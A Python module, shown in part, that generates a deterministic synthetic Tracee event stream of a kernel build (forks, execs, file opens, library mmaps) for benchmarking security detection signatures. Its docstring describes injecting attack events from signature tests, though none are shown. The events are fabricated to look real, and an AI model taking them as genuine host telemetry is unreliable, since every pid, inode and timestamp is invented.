"""A synthetic Tracee event stream of a clean Linux kernel build.

Tracee's own CPU study ran its Rego signatures during a clean kernel build
(``make -j8`` on the host, no containers).  This module reproduces that
stream: a top-level ``make`` descends into directories; each object is built
by ``sh -c`` running ``gcc`` (which runs ``cc1`` and ``as``), ``objtool``,
``fixdep`` and ``rm``; each program is exec'ed, maps its shared libraries,
opens headers and sources (with the ENOENT misses of the include path),
writes its output, and exits.  Events carry Tracee's names, argument names
and types, plausible pids, inodes and timestamps.

A small share of attack events (copies of events that must raise findings)
is injected at random positions.  The attack templates come from the
caller (``rego2py workload --signatures`` harvests them from the signature
tests) or default to ``DEFAULT_ATTACKS``.

Deterministic: the same arguments give the same events, byte for byte.
Standard library and orjson only.

Public API:
    generate(count, seed=1, attack_rate=0.005, selected=None, attacks=None)
        -> iterator of event dicts
    generate_annotated(...) -> iterator of (event, family or None)
    iter_jsonl(events) -> iterator of bytes lines; write_jsonl(events, path_or_file)
    KERNEL_BUILD_EVENTS, DEFAULT_ATTACKS, attack_event_names(attacks)
"""

from __future__ import annotations

import base64
import gzip
import random
import zlib
from collections.abc import Iterable, Iterator, Sequence
from typing import IO, Any

import orjson

# --------------------------------------------------------------------- host

BUILD_ROOT = "/home/builder/src/linux-6.12"
HOSTNAME = "build-01"
BUILD_UID = 1000
MOUNT_NS = 4026531841
PID_NS = 4026531836
CGROUP_ID = 7813
CPUS = 8  # make -j8 on an 8-cpu host
START_NS = 1_764_151_200_000_000_000  # 2025-11-26 10:00:00 UTC
DEV_ROOT = (259 << 20) | 2  # nvme0n1p2 holds / and /home
DEV_TMP = 39  # tmpfs on /tmp (anonymous major 0)
OLD_CTIME = 1_731_000_000_000_000_000  # installed packages: Nov 2024
MATCHED_POLICIES = ["kernel-build"]
SHELL_PID = 4170  # the user's interactive bash that started make
ATTACKER_PID = 200_000  # attack processes (pids of their own range)

# Tracee event ids: syscalls keep their x86_64 numbers, Tracee's own events
# follow its common-event block.
EVENT_IDS = {
    "close": "3",
    "mmap": "9",
    "mprotect": "10",
    "connect": "42",
    "clone": "56",
    "vfork": "58",
    "execve": "59",
    "ptrace": "101",
    "setuid": "105",
    "mount": "165",
    "init_module": "175",
    "openat": "257",
    "unlinkat": "263",
    "process_vm_writev": "311",
    "finit_module": "313",
    "memfd_create": "319",
    "sched_process_fork": "714",
    "sched_process_exec": "715",
    "sched_process_exit": "716",
    "mem_prot_alert": "722",
    "commit_creds": "723",
    "magic_write": "725",
    "security_bprm_check": "729",
    "security_file_open": "730",
    "security_inode_unlink": "731",
    "security_socket_create": "732",
    "security_socket_connect": "734",
    "security_sb_mount": "738",
    "security_bpf": "739",
    "security_kernel_read_file": "741",
    "security_inode_symlink": "744",
    "security_mmap_file": "745",
    "security_file_mprotect": "746",
    "security_inode_rename": "766",
}

# The event kinds a kernel build produces here.
KERNEL_BUILD_EVENTS = (
    "sched_process_fork",
    "sched_process_exec",
    "sched_process_exit",
    "clone",
    "vfork",
    "execve",
    "security_bprm_check",
    "openat",
    "security_file_open",
    "close",
    "mmap",
    "security_mmap_file",
    "mprotect",
    "magic_write",
    "security_inode_unlink",
    "security_inode_rename",
    "connect",
    "security_socket_connect",
)

# The syscall a Tracee event is attributed to (the syscall field).
_SYSCALL_OF = {
    "sched_process_fork": "clone",
    "sched_process_exec": "execve",
    "sched_process_exit": "exit_group",
    "security_bprm_check": "execve",
    "security_file_open": "openat",
    "security_mmap_file": "mmap",
    "magic_write": "write",
    "security_inode_unlink": "unlink",
    "security_inode_rename": "rename",
    "security_socket_connect": "connect",
}

# Argument types by argument name, to complete attack templates that give
# only names and values.
ARG_TYPES = {
    "pathname": "const char*",
    "cmdpath": "const char*",
    "syscall_pathname": "const char*",
    "interpreter_pathname": "const char*",
    "interp": "const char*",
    "stdin_path": "char*",
    "old_path": "const char*",
    "new_path": "const char*",
    "dev_name": "const char*",
    "path": "const char*",
    "name": "const char*",
    "flags": "int",
    "dev": "dev_t",
    "interpreter_dev": "dev_t",
    "inode": "unsigned long",
    "interpreter_inode": "unsigned long",
    "ctime": "unsigned long",
    "interpreter_ctime": "unsigned long",
    "inode_mode": "umode_t",
    "stdin_type": "string",
    "invoked_from_kernel": "int",
    "argv": "const char**",
    "env": "const char**",
    "envp": "const char**",
    "request": "long",
    "pid": "pid_t",
    "addr": "void*",
    "data": "void*",
    "bytes": "bytes",
    "prot": "int",
    "prev_prot": "int",
    "len": "size_t",
    "length": "size_t",
    "alert": "u32",
    "sockfd": "int",
    "remote_addr": "struct sockaddr*",
    "exit_code": "long",
    "process_group_exit": "bool",
}

# open(2) flags (x86_64)
O_RDONLY, O_WRONLY, O_RDWR = 0, 1, 2
O_CREAT, O_NOCTTY, O_TRUNC, O_APPEND = 0o100, 0o400, 0o1000, 0o2000
O_LARGEFILE, O_DIRECTORY, O_CLOEXEC = 0o100000, 0o200000, 0o2000000
AT_FDCWD = -100
ENOENT = -2
PROT_READ, PROT_WRITE, PROT_EXEC = 1, 2, 4
MAP_PRIVATE, MAP_FIXED, MAP_ANONYMOUS, MAP_DENYWRITE = 0x02, 0x10, 0x20, 0x800
CLONE_SPAWN = 0x4111  # CLONE_VM|CLONE_VFORK|SIGCHLD (posix_spawn in make)
CLONE_FORK = 0x1200011  # CLONE_CHILD_SETTID|CLONE_CHILD_CLEARTID|SIGCHLD (fork in sh)
S_IFREG_755, S_IFREG_644 = 0o100755, 0o100644
S_IFCHR = 0o020000

# ------------------------------------------------------------ kernel tree

# Directories and some of their compilation units (real file names).
_SOURCES = """
init: main.o version.o do_mounts.o do_mounts_initrd.o initramfs.o calibrate.o init_task.o
kernel: fork.o exec_domain.o panic.o cpu.o exit.o softirq.o resource.o sysctl.o capability.o ptrace.o user.o signal.o sys.o umh.o workqueue.o pid.o task_work.o extable.o params.o kthread.o sys_ni.o nsproxy.o notifier.o ksysfs.o cred.o reboot.o async.o range.o smpboot.o ucount.o regset.o ksyms_common.o groups.o vhost_task.o
kernel/sched: core.o fair.o build_policy.o build_utility.o
kernel/locking: mutex.o semaphore.o rwsem.o percpu-rwsem.o spinlock.o osq_lock.o qspinlock.o rtmutex_api.o qrwlock.o lockdep.o
kernel/irq: irqdesc.o handle.o manage.o spurious.o resend.o chip.o dummychip.o devres.o autoprobe.o irqdomain.o proc.o matrix.o msi.o
kernel/time: time.o timer.o hrtimer.o timekeeping.o ntp.o clocksource.o jiffies.o timer_list.o timeconv.o timecounter.o alarmtimer.o posix-timers.o posix-cpu-timers.o tick-common.o tick-sched.o
kernel/bpf: syscall.o verifier.o inode.o helpers.o tnum.o log.o token.o bpf_iter.o map_iter.o task_iter.o prog_iter.o link_iter.o hashtab.o arraymap.o percpu_freelist.o lru_list.o lpm_trie.o map_in_map.o core.o btf.o
mm: filemap.o mempool.o oom_kill.o fadvise.o maccess.o page-writeback.o folio-compat.o readahead.o swap.o truncate.o vmscan.o shrinker.o shmem.o util.o mmzone.o vmstat.o backing-dev.o mm_init.o percpu.o slab_common.o compaction.o show_mem.o interval_tree.o list_lru.o workingset.o gup.o mmap_lock.o highmem.o memory.o mincore.o mlock.o mmap.o mmu_gather.o mprotect.o mremap.o msync.o page_vma_mapped.o pagewalk.o pgtable-generic.o rmap.o vmalloc.o
fs: open.o read_write.o file_table.o super.o char_dev.o stat.o exec.o pipe.o namei.o fcntl.o ioctl.o readdir.o select.o dcache.o inode.o attr.o bad_inode.o file.o filesystems.o namespace.o seq_file.o xattr.o libfs.o fs-writeback.o pnode.o splice.o sync.o utimes.o d_path.o stack.o fs_struct.o statfs.o fs_pin.o nsfs.o fs_types.o fs_context.o fs_parser.o fsopen.o init.o kernel_read_file.o mnt_idmapping.o remap_range.o
fs/ext4: balloc.o bitmap.o block_validity.o dir.o ext4_jbd2.o extents.o extents_status.o file.o fsmap.o fsync.o hash.o ialloc.o indirect.o inline.o inode.o ioctl.o mballoc.o migrate.o mmp.o move_extent.o namei.o page-io.o readpage.o resize.o super.o symlink.o sysfs.o xattr.o xattr_hurd.o xattr_trusted.o xattr_user.o fast_commit.o orphan.o
fs/proc: task_mmu.o inode.o root.o base.o generic.o array.o fd.o proc_tty.o cmdline.o consoles.o cpuinfo.o devices.o interrupts.o loadavg.o meminfo.o stat.o uptime.o util.o version.o softirqs.o namespaces.o self.o thread_self.o proc_sysctl.o proc_net.o kcore.o vmcore.o kmsg.o page.o
net/core: sock.o request_sock.o skbuff.o datagram.o stream.o scm.o gen_stats.o gen_estimator.o net_namespace.o secure_seq.o flow_dissector.o sysctl_net_core.o dev.o dev_addr_lists.o dst.o netevent.o neighbour.o rtnetlink.o utils.o link_watch.o filter.o sock_diag.o dev_ioctl.o tso.o sock_reuseport.o fib_notifier.o xdp.o flow_offload.o gro.o netdev-genl.o
net/ipv4: route.o inetpeer.o protocol.o ip_input.o ip_fragment.o ip_forward.o ip_options.o ip_output.o ip_sockglue.o inet_hashtables.o inet_timewait_sock.o inet_connection_sock.o tcp.o tcp_input.o tcp_output.o tcp_timer.o tcp_ipv4.o tcp_minisocks.o tcp_cong.o tcp_metrics.o tcp_fastopen.o tcp_rate.o tcp_recovery.o tcp_ulp.o tcp_offload.o datagram.o raw.o udp.o udplite.o udp_offload.o arp.o icmp.o devinet.o af_inet.o igmp.o fib_frontend.o fib_semantics.o fib_trie.o fib_notifier.o inet_fragment.o ping.o
drivers/base: component.o core.o bus.o dd.o syscore.o driver.o class.o platform.o cpu.o firmware.o init.o map.o devres.o attribute_container.o transport_class.o topology.o container.o property.o cacheinfo.o swnode.o auxiliary.o devtmpfs.o module.o
drivers/pci: access.o bus.o probe.o host-bridge.o remove.o pci.o pci-driver.o search.o rom.o setup-res.o irq.o vpd.o setup-bus.o vc.o mmap.o devres.o proc.o slot.o pci-acpi.o quirks.o msi/msi.o pcie/portdrv.o
drivers/tty: tty_io.o n_tty.o tty_ioctl.o tty_ldisc.o tty_buffer.o tty_port.o tty_mutex.o tty_ldsem.o tty_baudrate.o tty_jobctrl.o n_null.o pty.o sysrq.o vt/vt.o serial/8250/8250_core.o serial/8250/8250_port.o
drivers/net/ethernet/intel/e1000e: 82571.o ich8lan.o 80003es2lan.o mac.o manage.o nvm.o phy.o param.o ethtool.o netdev.o ptp.o
drivers/gpu/drm: drm_aperture.o drm_atomic.o drm_atomic_uapi.o drm_auth.o drm_blend.o drm_bridge.o drm_cache.o drm_client.o drm_client_modeset.o drm_color_mgmt.o drm_connector.o drm_crtc.o drm_displayid.o drm_drv.o drm_dumb_buffers.o drm_edid.o drm_eld.o drm_encoder.o drm_file.o drm_fourcc.o drm_framebuffer.o drm_gem.o drm_ioctl.o drm_lease.o drm_managed.o drm_mm.o drm_mode_config.o drm_mode_object.o drm_modes.o drm_modeset_lock.o drm_plane.o drm_prime.o drm_print.o drm_property.o drm_syncobj.o drm_sysfs.o drm_vblank.o
arch/x86/kernel: process_64.o signal.o traps.o idt.o irq.o irq_64.o dumpstack_64.o time.o ioport.o dumpstack.o nmi.o setup.o x86_init.o i8259.o irqinit.o jump_label.o irq_work.o probe_roms.o sys_x86_64.o bootflag.o e820.o pci-dma.o quirks.o topology.o kdebugfs.o alternative.o i8253.o hw_breakpoint.o tsc.o tsc_msr.o io_delay.o rtc.o resource.o irqflags.o static_call.o process.o ptrace.o tls.o step.o
arch/x86/mm: init.o init_64.o fault.o ioremap.o extable.o mmap.o pgtable.o physaddr.o tlb.o cpu_entry_area.o maccess.o pgprot.o pat/set_memory.o pat/memtype.o
lib: bcd.o sort.o parser.o debug_locks.o random32.o bust_spinlocks.o kasprintf.o bitmap.o scatterlist.o list_sort.o uuid.o iov_iter.o clz_ctz.o bsearch.o find_bit.o llist.o lwq.o memweight.o kfifo.o percpu-refcount.o rhashtable.o once.o refcount.o rcuref.o usercopy.o errseq.o bucket_locks.o generic-radix-tree.o bitmap-str.o string.o vsprintf.o cmdline.o rbtree.o radix-tree.o timerqueue.o xarray.o maple_tree.o idr.o extable.o flex_proportions.o ctype.o hexdump.o kobject.o klist.o
crypto: api.o cipher.o compress.o algapi.o scatterwalk.o aead.o geniv.o skcipher.o ahash.o shash.o akcipher.o sig.o kpp.o rsa.o rsa_helper.o acompress.o scompress.o algboss.o testmgr.o cmac.o hmac.o sha1_generic.o sha256_generic.o sha512_generic.o sha3_generic.o ecb.o cbc.o ctr.o gcm.o ccm.o aes_generic.o crc32c_generic.o
security: commoncap.o min_addr.o security.o lsm_audit.o device_cgroup.o inode.o
block: bdev.o fops.o bio.o elevator.o blk-core.o blk-sysfs.o blk-flush.o blk-settings.o blk-ioc.o blk-map.o blk-merge.o blk-timeout.o blk-lib.o blk-mq.o blk-mq-tag.o blk-stat.o blk-mq-sysfs.o blk-mq-cpumap.o blk-mq-sched.o ioctl.o genhd.o ioprio.o badblocks.o partitions/core.o
ipc: compat.o util.o msgutil.o msg.o sem.o shm.o syscall.o ipc_sysctl.o mqueue.o namespace.o
"""

UNITS = [
    (d.strip(), names.split())
    for d, names in (line.split(":", 1) for line in _SOURCES.strip().splitlines())
]

# Headers a unit may include, as found on the include path.
_HEADERS = """
include/linux: types.h kernel.h compiler.h compiler_attributes.h stddef.h limits.h kconfig.h
 compiler_types.h compiler-version.h init.h module.h slab.h sched.h mm.h mm_types.h fs.h
 list.h spinlock.h spinlock_types.h mutex.h rwsem.h atomic.h bitops.h bits.h bug.h err.h
 errno.h export.h printk.h string.h stat.h time.h time64.h ktime.h jiffies.h timer.h
 workqueue.h wait.h completion.h rcupdate.h rculist.h percpu.h percpu-defs.h cpumask.h
 gfp.h gfp_types.h mmzone.h page-flags.h pagemap.h highmem.h uaccess.h capability.h cred.h
 uidgid.h pid.h signal.h signal_types.h sched/signal.h sched/task.h sched/mm.h sched/clock.h
 sched/coredump.h sched/topology.h sched/types.h nodemask.h numa.h seqlock.h lockdep.h
 lockdep_types.h irqflags.h preempt.h smp.h thread_info.h restart_block.h math64.h log2.h
 minmax.h typecheck.h instrumented.h kcsan-checks.h kasan-checks.h kasan.h kmsan-checks.h
 container_of.h build_bug.h static_key.h jump_label.h static_call.h static_call_types.h
 refcount.h kref.h kobject.h kobject_ns.h sysfs.h kernfs.h idr.h radix-tree.h xarray.h
 rbtree.h rbtree_types.h maple_tree.h llist.h hash.h stringhash.h dcache.h path.h namei.h
 file.h fdtable.h mount.h seq_file.h proc_fs.h poll.h socket.h net.h skbuff.h netdevice.h
 device.h device/bus.h device/class.h device/driver.h ioport.h resource_ext.h irq.h
 interrupt.h hardirq.h irqreturn.h cpu.h notifier.h srcu.h ratelimit.h ratelimit_types.h
 once.h random.h prandom.h siphash.h uuid.h overflow.h array_size.h cleanup.h sizes.h
 align.h const.h linkage.h stringify.h args.h instruction_pointer.h panic.h kstrtox.h
 hex.h sprintf.h util_macros.h wordpart.h fs_types.h stat.h uio.h iov_iter.h bvec.h
 blk_types.h blkdev.h bio.h genhd.h mempool.h shrinker.h swap.h memcontrol.h cgroup.h
 cgroup-defs.h page_counter.h vmstat.h vm_event_item.h mmap_lock.h huge_mm.h pgtable.h
 pfn.h mm_inline.h rmap.h migrate.h ptrace.h audit.h security.h lsm_hooks.h bpf.h filter.h
 perf_event.h ftrace.h trace_events.h tracepoint.h tracepoint-defs.h kprobes.h
 syscalls.h compat.h elf.h binfmts.h user_namespace.h nsproxy.h ns_common.h utsname.h
 ipc.h key.h assoc_array.h sem.h shm.h posix-timers.h hrtimer.h timerqueue.h rtmutex.h
 plist.h osq_lock.h debug_locks.h stacktrace.h kmsan_types.h mmdebug.h vmalloc.h
 ioprio.h fs_context.h fs_parser.h writeback.h backing-dev.h delay.h crc32.h
include/linux/unaligned: packed_struct.h
include/asm-generic: bitops/const_hweight.h bitops/le.h bitops/ext2-atomic-setbit.h
 percpu.h getorder.h memory_model.h pgtable-nop4d.h mmiowb.h qspinlock.h qrwlock.h
 rwonce.h barrier.h bug.h int-ll64.h errno-base.h kdebug.h
include/uapi/linux: types.h stddef.h limits.h const.h posix_types.h errno.h stat.h time.h
 capability.h sched.h signal.h fs.h ioctl.h wait.h sysinfo.h kernel.h elf.h elf-em.h
 personality.h resource.h uio.h socket.h in.h in6.h if.h netdevice.h bpf.h bpf_common.h
 magic.h mount.h audit.h ptrace.h
include/generated: autoconf.h bounds.h timeconst.h uapi/linux/version.h rustc_cfg utsrelease.h
arch/x86/include/asm: types.h bitops.h processor.h page.h page_64.h page_types.h pgtable.h
 pgtable_64.h pgtable_types.h current.h thread_info.h percpu.h atomic.h atomic64_64.h
 barrier.h cmpxchg.h cmpxchg_64.h alternative.h asm.h rmwcc.h cpufeatures.h cpufeature.h
 disabled-features.h required-features.h msr.h msr-index.h special_insns.h irqflags.h
 nospec-branch.h segment.h desc.h ptrace.h processor-flags.h math_emu.h vm86.h
 fpu/types.h fpu/api.h paravirt.h paravirt_types.h smp.h apic.h mpspec.h io.h
 uaccess.h uaccess_64.h extable.h string.h string_64.h linkage.h bug.h preempt.h
 spinlock.h qspinlock.h qrwlock.h mmu.h tlbflush.h cache.h cacheflush.h kaslr.h
 sparsemem.h topology.h numa.h mmzone.h mmzone_64.h fixmap.h kmap_size.h
arch/x86/include/uapi/asm: bitsperlong.h posix_types_64.h ptrace-abi.h processor-flags.h
 signal.h siginfo.h stat.h byteorder.h swab.h
arch/x86/include/generated/asm: cpufeaturemasks.h syscalls_64.h unistd_64_x32.h
 asm-offsets.h rwonce.h mmiowb.h kmap_size.h
arch/x86/include/generated/uapi/asm: unistd_64.h types.h errno.h ioctl.h
/usr/lib/gcc/x86_64-linux-gnu/12/include: stdarg.h stddef.h stdbool.h
"""


_KCONFIG_DIRS = """
init kernel kernel/power kernel/bpf kernel/time kernel/irq kernel/rcu kernel/trace kernel/gcov
kernel/livepatch kernel/dma mm fs fs/ext2 fs/ext4 fs/jbd2 fs/btrfs fs/xfs fs/nfs fs/nfsd fs/fat
fs/ntfs3 fs/overlayfs fs/fuse fs/squashfs fs/proc fs/sysfs fs/notify fs/quota fs/crypto
fs/verity fs/iomap fs/smb/client fs/9p fs/isofs fs/udf net net/ipv4 net/ipv6 net/netfilter
net/ipv4/netfilter net/bridge net/sched net/wireless net/mac80211 net/bluetooth net/unix
net/packet net/xfrm net/sunrpc net/vmw_vsock net/tls net/mptcp drivers drivers/acpi
drivers/ata drivers/base drivers/block drivers/bluetooth drivers/char drivers/clk
drivers/cpufreq drivers/cpuidle drivers/crypto drivers/dma drivers/edac drivers/firmware
drivers/gpio drivers/gpu/drm drivers/gpu/drm/i915 drivers/gpu/drm/amd/amdgpu drivers/hid
drivers/hwmon drivers/i2c drivers/iio drivers/infiniband drivers/input drivers/iommu
drivers/irqchip drivers/leds drivers/md drivers/media drivers/mfd drivers/misc drivers/mmc
drivers/mtd drivers/net drivers/net/ethernet drivers/net/ethernet/intel
drivers/net/ethernet/realtek drivers/net/wireless drivers/nvme/host drivers/pci drivers/phy
drivers/pinctrl drivers/platform/x86 drivers/power/supply drivers/pps drivers/ptp drivers/pwm
drivers/regulator drivers/rtc drivers/scsi drivers/spi drivers/thermal drivers/tty
drivers/tty/serial drivers/usb drivers/usb/core drivers/usb/host drivers/usb/storage
drivers/vfio drivers/vhost drivers/video drivers/virtio drivers/watchdog drivers/xen sound
sound/core sound/pci sound/pci/hda sound/usb sound/soc security security/selinux
security/apparmor security/integrity security/keys security/yama security/lockdown
security/landlock crypto crypto/asymmetric_keys lib lib/crypto lib/math block block/partitions
ipc arch/x86 arch/x86/kvm arch/x86/xen arch/x86/events virt/kvm usr certs samples
"""
KCONFIGS = [f"{d}/Kconfig" for d in _KCONFIG_DIRS.split()] + [
    "arch/x86/Kconfig.cpu", "arch/x86/Kconfig.debug", "arch/x86/Kconfig.assembler", "lib/Kconfig.debug",
    "lib/Kconfig.kasan", "lib/Kconfig.ubsan", "init/Kconfig", "kernel/Kconfig.preempt", "kernel/Kconfig.hz",
    "kernel/Kconfig.locks", "mm/Kconfig.debug", "fs/Kconfig.binfmt", "net/Kconfig.debug", "crypto/Kconfig",
    "security/Kconfig.hardening", "drivers/Kconfig", "scripts/Kconfig.include", "arch/Kconfig",
]
KCONFIGS = list(dict.fromkeys(KCONFIGS))


def _header_pool() -> list[str]:
    pool: list[str] = []
    block = ""
    for line in _HEADERS.strip().splitlines():
        if ":" in line:
            block, names = line.split(":", 1)
        else:
            names = line
        for name in names.split():
            pool.append(f"{block}/{name}")
    return list(dict.fromkeys(pool))


HEADERS = _header_pool()
# Given with -include (opened as named), then the first headers they pull in.
FORCED_HEADERS = [
    "include/linux/compiler-version.h",
    "include/linux/kconfig.h",
    "include/linux/compiler_types.h",
]
FIRST_HEADERS = ["include/generated/autoconf.h", "include/linux/compiler_attributes.h"]
# The -I directories searched, in order, for <...> includes.
_SEARCH = (
    "arch/x86/include/",
    "arch/x86/include/generated/",
    "include/",
    "arch/x86/include/uapi/",
    "arch/x86/include/generated/uapi/",
    "include/uapi/",
)

LIBDIR = "/usr/lib/x86_64-linux-gnu/"
LD_SO = LIBDIR + "ld-linux-x86-64.so.2"
LIBC = ["libc.so.6"]
# name -> (cmdpath, resolved path, comm, shared libraries, uses locale)
PROGRAMS = {
    "make": ("/usr/bin/make", "/usr/bin/make", "make", LIBC, True),
    "sh": ("/bin/sh", "/usr/bin/dash", "sh", LIBC, False),
    "gcc": ("/usr/bin/gcc", "/usr/bin/x86_64-linux-gnu-gcc-12", "gcc", LIBC, True),
    "cc1": (
        "/usr/libexec/gcc/x86_64-linux-gnu/12/cc1",
        "/usr/libexec/gcc/x86_64-linux-gnu/12/cc1",
        "cc1",
        ["libisl.so.23", "libmpc.so.3", "libmpfr.so.6", "libgmp.so.10", "libzstd.so.1", "libz.so.1", "libm.so.6", "libc.so.6"],
        True,
    ),
    "as": (
        "/usr/bin/as",
        "/usr/bin/x86_64-linux-gnu-as",
        "as",
        ["libopcodes-2.40-system.so", "libbfd-2.40-system.so", "libz.so.1", "libzstd.so.1", "libsframe.so.0", "libc.so.6"],
        True,
    ),
    "ld": (
        "/usr/bin/ld",
        "/usr/bin/x86_64-linux-gnu-ld.bfd",
        "ld",
        ["libctf.so.0", "libbfd-2.40-system.so", "libjansson.so.4", "libsframe.so.0", "libz.so.1", "libzstd.so.1", "libc.so.6"],
        True,
    ),
    "collect2": (
        "/usr/libexec/gcc/x86_64-linux-gnu/12/collect2",
        "/usr/libexec/gcc/x86_64-linux-gnu/12/collect2",
        "collect2",
        LIBC,
        True,
    ),
    "ar": ("/usr/bin/ar", "/usr/bin/x86_64-linux-gnu-ar", "ar", ["libbfd-2.40-system.so", "libsframe.so.0", "libz.so.1", "libzstd.so.1", "libc.so.6"], True),
    "objtool": ("./tools/objtool/objtool", BUILD_ROOT + "/tools/objtool/objtool", "objtool", ["libelf.so.1", "libz.so.1", "libzstd.so.1", "libc.so.6"], False),
    "fixdep": ("scripts/basic/fixdep", BUILD_ROOT + "/scripts/basic/fixdep", "fixdep", LIBC, False),
    "conf": ("scripts/kconfig/conf", BUILD_ROOT + "/scripts/kconfig/conf", "conf", LIBC, False),
    "rm": ("/usr/bin/rm", "/usr/bin/rm", "rm", LIBC, True),
    "mkdir": ("/usr/bin/mkdir", "/usr/bin/mkdir", "mkdir", ["libselinux.so.1", "libpcre2-8.so.0", "libc.so.6"], True),
    "cmp": ("/usr/bin/cmp", "/usr/bin/cmp", "cmp", LIBC, True),
    "mv": ("/usr/bin/mv", "/usr/bin/mv", "mv", ["libselinux.so.1", "libacl.so.1", "libattr.so.1", "libpcre2-8.so.0", "libc.so.6"], True),
    "git": ("/usr/bin/git", "/usr/bin/git", "git", ["libpcre2-8.so.0", "libz.so.1", "libc.so.6"], True),
    "whoami": ("/usr/bin/whoami", "/usr/bin/whoami", "whoami", LIBC, True),
}
_LIB_SIZE = {  # a plausible size per library, for mmap lengths
    "libc.so.6": 1_922_136,
    "libm.so.6": 907_784,
    "libisl.so.23": 2_226_392,
    "libmpfr.so.6": 596_080,
    "libgmp.so.10": 534_184,
    "libmpc.so.3": 116_904,
    "libbfd-2.40-system.so": 1_992_664,
    "libopcodes-2.40-system.so": 1_081_704,
}


def _inode(path: str) -> int:
    """A stable inode number for a path (the same path, the same inode)."""
    return 1_048_576 + zlib.crc32(path.encode()) % 30_000_000


def _b64(data: bytes) -> str:
    return base64.b64encode(data[:20]).decode()


ELF_REL_HEADER = _b64(b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x01\x00\x3e\x00")
ELF_EXEC_HEADER = _b64(b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x03\x00\x3e\x00")
THIN_ARCHIVE = _b64(b"!<thin>\n/               ")


def _arg(name: str, type_: str, value: Any) -> dict:
    return {"name": name, "type": type_, "value": value}


# ---------------------------------------------------------------- processes


class _Proc:
    """A process of the simulated build (single-threaded: tid == pid)."""

    __slots__ = ("pid", "ppid", "comm", "exe", "start", "entity", "pentity", "cpu", "uid")

    def __init__(self, pid: int, parent: _Proc | None, start: int, cpu: int):
        self.pid = pid
        self.ppid = parent.pid if parent else SHELL_PID
        self.comm = parent.comm if parent else "bash"
        self.exe = parent.exe if parent else "/usr/bin/bash"
        self.start = start
        self.entity = zlib.crc32(f"{pid}:{start}".encode())
        self.pentity = parent.entity if parent else zlib.crc32(f"{SHELL_PID}".encode())
        self.cpu = cpu
        self.uid = BUILD_UID


class _Dir:
    """A directory being built by its own sub-make."""

    __slots__ = ("name", "units", "make", "outstanding", "ready", "objects")

    def __init__(self, name: str, units: list[str]):
        self.name = name
        self.units = units
        self.make: _Proc | None = None
        self.outstanding = 0
        self.ready = False
        self.objects: list[str] = []


# A raw event before it becomes a dict: (proc, name, args, returnValue).
# args is a list of (name, type, value) tuples.
Raw = tuple


class _KernelBuild:
    """The build simulation: an endless iterator of raw events."""

    def __init__(self, seed: int):
        self.rng = random.Random(f"kernel-build:{seed}")
        self.now = START_NS
        self.next_pid = 48_213
        self.dirs: list[_Dir] = []
        self.dir_cursor = 0
        self.top: _Proc | None = None
        self.tmp_counter = 0
        self.include_cache: dict[str, list] = {}
        self.read_cache: dict[tuple[str, int], list] = {}
        self.login = _Proc(SHELL_PID, None, START_NS - 3_600_000_000_000, 0)
        self.login.ppid = SHELL_PID - 12  # the terminal's process

    # -- helpers ---------------------------------------------------------

    def tick(self) -> int:
        self.now += 2_000 + self.rng.getrandbits(16)
        return self.now

    def new_proc(self, parent: _Proc | None) -> _Proc:
        pid = self.next_pid
        self.next_pid += 1 + (self.rng.random() < 0.02)  # some other task took one
        return _Proc(pid, parent, self.now, self.rng.randrange(CPUS))

    def tmpname(self) -> str:
        self.tmp_counter += 1
        alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
        return "/tmp/cc" + "".join(self.rng.choice(alphabet) for _ in range(6))

    # -- process lifecycle ------------------------------------------------

    def fork(self, parent: _Proc, how: str, box: list):
        """Clone a child of `parent`; the child is appended to `box`.  The
        fork tracepoint fires inside the syscall, before its exit event."""
        child = self.new_proc(parent)
        box.append(child)
        yield parent, "sched_process_fork", [
            ("parent_tid", "int", parent.pid),
            ("parent_ns_tid", "int", parent.pid),
            ("parent_pid", "int", parent.pid),
            ("parent_ns_pid", "int", parent.pid),
            ("child_tid", "int", child.pid),
            ("child_ns_tid", "int", child.pid),
            ("child_pid", "int", child.pid),
            ("child_ns_pid", "int", child.pid),
            ("start_time", "unsigned long", child.start),
        ], 0
        if how == "vfork":
            yield parent, "vfork", [], child.pid
        else:
            flags = CLONE_SPAWN if how == "spawn" else CLONE_FORK
            yield parent, "clone", [
                ("flags", "unsigned long", flags),
                ("stack", "void*", 0),
                ("parent_tid", "int*", 0),
                ("child_tid", "int*", 0x7F0000000A10 + (child.pid << 12)),
                ("tls", "unsigned long", 0),
            ], child.pid

    def exec(self, p: _Proc, prog: str, argv: list[str], cmdpath: str | None = None):
        cmd, path, comm, libs, locale = PROGRAMS[prog]
        cmdpath = cmdpath or cmd
        inode = _inode(path)
        yield p, "execve", [
            ("pathname", "const char*", cmdpath),
            ("argv", "const char**", argv),
        ], 0
        yield p, "security_bprm_check", [
            ("pathname", "const char*", path),
            ("dev", "dev_t", DEV_ROOT),
            ("inode", "unsigned long", inode),
            ("argv", "const char**", argv),
        ], 0
        p.comm = comm
        p.exe = path
        yield p, "sched_process_exec", [
            ("cmdpath", "const char*", cmdpath),
            ("pathname", "const char*", path),
            ("dev", "dev_t", DEV_ROOT),
            ("inode", "unsigned long", inode),
            ("ctime", "unsigned long", OLD_CTIME + inode),
            ("inode_mode", "umode_t", S_IFREG_755),
            ("interpreter_pathname", "const char*", LD_SO),
            ("interpreter_dev", "dev_t", DEV_ROOT),
            ("interpreter_inode", "unsigned long", _inode(LD_SO)),
            ("interpreter_ctime", "unsigned long", OLD_CTIME),
            ("argv", "const char**", argv),
            ("interp", "const char*", cmdpath),
            ("stdin_type", "string", "S_IFCHR"),
            ("stdin_path", "char*", "/dev/pts/3"),
            ("invoked_from_kernel", "int", 0),
        ], 0
        yield from self.load_libraries(p, libs)
        if locale:
            yield from self.map_file(p, "/usr/lib/locale/locale-archive", 3_055_008, PROT_READ)

    def map_file(self, p: _Proc, path: str, size: int, prot: int, exec_segment: bool = False):
        inode = _inode(path)
        yield from self.open_file(p, path, path, O_RDONLY | O_CLOEXEC, close=False)
        base = 0x7F0000000000 + (self.rng.getrandbits(24) << 12)
        yield p, "security_mmap_file", [
            ("pathname", "const char*", path),
            ("flags", "int", O_LARGEFILE | O_CLOEXEC),
            ("dev", "dev_t", DEV_ROOT),
            ("inode", "unsigned long", inode),
            ("ctime", "unsigned long", OLD_CTIME + inode),
            ("prot", "unsigned long", prot),
            ("mmap_flags", "unsigned long", MAP_PRIVATE | MAP_DENYWRITE),
        ], 0
        yield p, "mmap", [
